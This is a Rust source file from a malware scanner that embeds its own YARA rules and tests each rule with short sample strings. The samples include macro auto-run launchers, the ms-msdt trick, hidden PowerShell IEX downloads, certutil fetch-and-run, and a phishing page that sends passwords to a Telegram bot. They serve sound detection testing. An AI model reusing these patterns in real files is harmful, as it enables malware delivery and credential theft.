//! Our own rules, which the program brings with it: `config/signatures/*.yar`.

use super::compile::SignatureFile;

pub(super) const FILES: &[SignatureFile<'static>] =
    &[SignatureFile { name: "tamis.yar", bytes: include_bytes!("../../config/signatures/tamis.yar") }];

#[cfg(test)]
mod tests {
    use super::super::{Class, Database, Scan};
    use crate::unpack::{Contents, Item, Role, Spent};
    use std::collections::BTreeSet;

    fn hits(bytes: &[u8]) -> Vec<(String, Option<Class>)> {
        let item = Item {
            path: vec!["2".into()],
            name: None,
            declared_type: String::new(),
            true_type: "application/octet-stream".into(),
            size: bytes.len() as u64,
            sha256: String::new(),
        };
        let mut scan = Scan::new(Database::embedded(), Spent::default);
        scan.contents(&item, &Contents { bytes, name: None, declared_type: "", role: Role::File });
        scan.finish().hits.into_iter().map(|hit| (hit.name, hit.class)).collect()
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn shortcut(command: &str) -> Vec<u8> {
        [b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec(), wide(command)].concat()
    }

    fn onenote(file: &str) -> Vec<u8> {
        let head = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3";
        let store = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
        [&head[..], &[0; 20], store, file.as_bytes()].concat()
    }

    fn disk(names: &str) -> Vec<u8> {
        let mut image = vec![0; 0x8000];
        image.extend(b"\x01CD001\x01\0");
        image.extend(names.bytes());
        image
    }

    /// Marks, not programs: nothing here does anything. Each line has what its rule asks for and no more.
    fn samples() -> Vec<(&'static str, Vec<u8>)> {
        let t = |name, text: &str| (name, text.as_bytes().to_vec());
        vec![
            t("macro_starts_program", "Sub AutoOpen()\nCreateObject(\"WScript.Shell\").x \"mshta a\"\nEnd Sub"),
            t("macro_downloads", "Sub Document_Open()\nx = URLDownloadToFile(0, u, Environ(\"TEMP\"), 0, 0)\nEnd Sub"),
            t("macro_wmi_process", "Sub Workbook_Open()\nGetObject(\"winmgmts:Win32_Process\").Create x\nEnd Sub"),
            t("macro_runs_code_in_memory", "Declare PtrSafe Function VirtualAlloc\nRtlMoveMemory\nCreateThread"),
            t("excel4_macro_loader", "Auto_Open =EXEC(\"cmd.exe x\")"),
            t("dde_starts_program", "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe x</w:instrText>"),
            t(
                "document_remote_template",
                "<Relationship Type=\"x/relationships/attachedTemplate\" \
                Target=\"http://a.example/t.dotm\" TargetMode=\"External\"/>",
            ),
            t("document_starts_diagnostics", "ms-msdt:/id PCWDiagnostic x IT_BrowseForFile=y"),
            t("rtf_equation_object", "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}}}"),
            t("rtf_package_that_opens", "{\\rtf1\\objupdate\\objdata 5061636b61676500612e65786500}"),
            t("rtf_linked_object", "{\\rtf1\\objautlink e0c9ea79f9bace118c8200aa004ba90b 68007400740070003a00}"),
            t("rtf_remote_template", "{\\rtf1{\\*\\template http://a.example/x}}"),
            ("onenote_launcher", onenote("<hta:application>")),
            ("shortcut_powershell", shortcut("powershell -windowstyle hidden")),
            ("shortcut_system_tool", shortcut("mshta http://a.example/")),
            ("shortcut_command_line", shortcut("cmd.exe /c copy a %temp%")),
            t("internet_shortcut_to_program", "[InternetShortcut]\r\nURL=file://a.example/share/b.lnk\r\n"),
            t("remote_search_window", "<a href=\"search-ms:query=x&crumb=location:\\\\a.example\\b\">"),
            ("disk_image_launcher", disk("INVOICE.LNK;1 DATA.DLL;1")),
            t("page_builds_archive", "x = Uint8Array; new Blob([\"UEsDBBQ\"]); URL.createObjectURL(b)"),
            t("page_gives_download", "new Blob([atob(x)]); a.href = URL.createObjectURL(b); a.download = n; a.click()"),
            t("page_data_address_program", "<a download href=\"data:application/zip;base64,UEsDBBQ\">"),
            t("image_leads_away", "<svg ><script >window.location.href = 'https://a.example'</script></svg>"),
            t(
                "page_asks_password_for_brand",
                "<title>Outlook</title><form method=post action=\"https://a.example/p.php\">\
                <input name=p type=\"password\">",
            ),
            t("page_sends_password_to_chat", "fetch('https://api.telegram.org/bot1/sendMessage?text=' + password)"),
            t("page_knows_its_victim", "email = location.hash.substr(1); <input type=\"password\">"),
            ("page_is_written_from_escapes", format!("document.write(unescape('{}'))", "%3C".repeat(30)).into_bytes()),
            t("page_runs_hidden_text", "<script >eval(atob('x'))</script>"),
            t("powershell_hidden_download", "x -w hidden IEX (New-Object Net.WebClient).y"),
            ("powershell_encoded_command", format!("powershell -nop -enc {}", "QUJD".repeat(20)).into_bytes()),
            t("powershell_loads_bytes", "[Reflection.Assembly]::Load([Convert]::FromBase64String(x)).EntryPoint"),
            t("script_drops_file", "CreateObject(\"MSXML2.XMLHTTP\") ADODB.Stream Shell.Application"),
            t("script_starts_system_tool", "new ActiveXObject(\"WScript.Shell\").Run(\"curl http://a.example\")"),
            ("script_hidden_in_numbers", format!("Dim x: Execute(x){}", " & Chr(65)".repeat(41)).into_bytes()),
            t(
                "hta_starts_program",
                "<script language=\"VBScript\">x = \"WScript.Shell\": y.Run z: window.close</script>",
            ),
            t("wsf_starts_program", "<job ><script language=\"JScript\">WScript.Shell; x.Run(y)</script></job>"),
            t("batch_fetches_and_starts", "@echo off\r\ncertutil -urlcache -f x\r\nstart %TEMP%\\a.exe\r\n"),
            t("pdf_starts_program", "%PDF-1.4 /S /Launch /F (cmd.exe)"),
            t("pdf_opens_attachment", "%PDF-1.4 /JavaScript (this.exportDataObject({ nLaunch: 2 }))"),
        ]
    }

    #[test]
    fn every_rule_has_a_sample_that_hits_and_says_its_class() {
        let samples = samples();
        for (rule, sample) in &samples {
            let hits = hits(sample);
            let hit = hits.iter().find(|(name, _)| *name == format!("YARA.{rule}"));
            assert!(hit.is_some_and(|(_, class)| class.is_some()), "{rule}: {hits:?}");
        }
        let text = std::str::from_utf8(super::FILES[0].bytes).unwrap();
        let rules: BTreeSet<&str> = text.lines().filter_map(|line| line.strip_prefix("rule ")).collect();
        let tried: BTreeSet<&str> = samples.iter().map(|(rule, _)| *rule).collect();
        assert_eq!(rules, tried);
        assert!(rules.len() >= 25);
    }

    #[test]
    fn no_rule_hits_half_of_its_marks() {
        for (rule, sample) in samples() {
            let half = &sample[..sample.len() / 2];
            let hits: Vec<_> = hits(half).into_iter().filter(|(name, _)| *name == format!("YARA.{rule}")).collect();
            assert_eq!(hits, [], "{rule}");
        }
    }

    #[test]
    fn what_people_write_and_send_hits_nothing() {
        for text in [
            "Install it: iex ((New-Object System.Net.WebClient).DownloadString('https://a.example/install.ps1'))",
            "Set-ExecutionPolicy Bypass -Scope Process -Force; Invoke-WebRequest https://a.example/x.zip -OutFile x.zip",
            "Sub CopyRows()\nDim r As Range\nSheets(1).Range(\"A1\").Copy Sheets(2).Range(\"A1\")\nEnd Sub",
            "Private Sub Workbook_Open()\nMsgBox \"Hello\"\nApplication.Calculate\nEnd Sub",
            "<html><body><form action=\"https://shop.example/search\"><input type=text name=q></form></body></html>",
            "<form action=\"/login.php\"><input type=password></form> Sign in to our club",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/><a href=\"https://a.example\">x</a></svg>",
            "<script>window.location.href = '/home'; document.write(new Date())</script>",
            "<script>var b = new Blob([csv]); save(URL.createObjectURL(b))</script>",
            "@echo off\r\necho building\r\ncall make.bat\r\ncopy out.exe dist\r\n",
            "certutil -urlcache is a command that attackers like; see also mshta and rundll32 in the manual.",
            "[InternetShortcut]\r\nURL=https://www.a.example/index.html\r\n",
            "{\\rtf1\\ansi{\\object\\objemb\\objdata 0105000002000000}}",
            "{\\rtf1\\ansi{\\*\\template Normal.dotm} Hello}",
            "%PDF-1.7 /OpenAction << /S /GoTo >> /JavaScript (this.print();) /EmbeddedFile",
            "<Relationship Type=\"x/relationships/hyperlink\" Target=\"https://a.example/\" TargetMode=\"External\"/>",
            "=CALL(\"x\") and Auto_Open are old macros of Excel.",
            "For Each c In s: t = t & Chr(Asc(c) + 1): Next: Execute t",
        ] {
            assert_eq!(hits(text.as_bytes()), [], "{text}");
        }
        assert_eq!(hits(&shortcut("C:\\Program Files\\Editor\\editor.exe report.txt")), []);
        assert_eq!(hits(&onenote("%PDF-1.7 a picture")), []);
        assert_eq!(hits(&disk("README.TXT;1 SETUP.EXE;1")), []);
    }
}
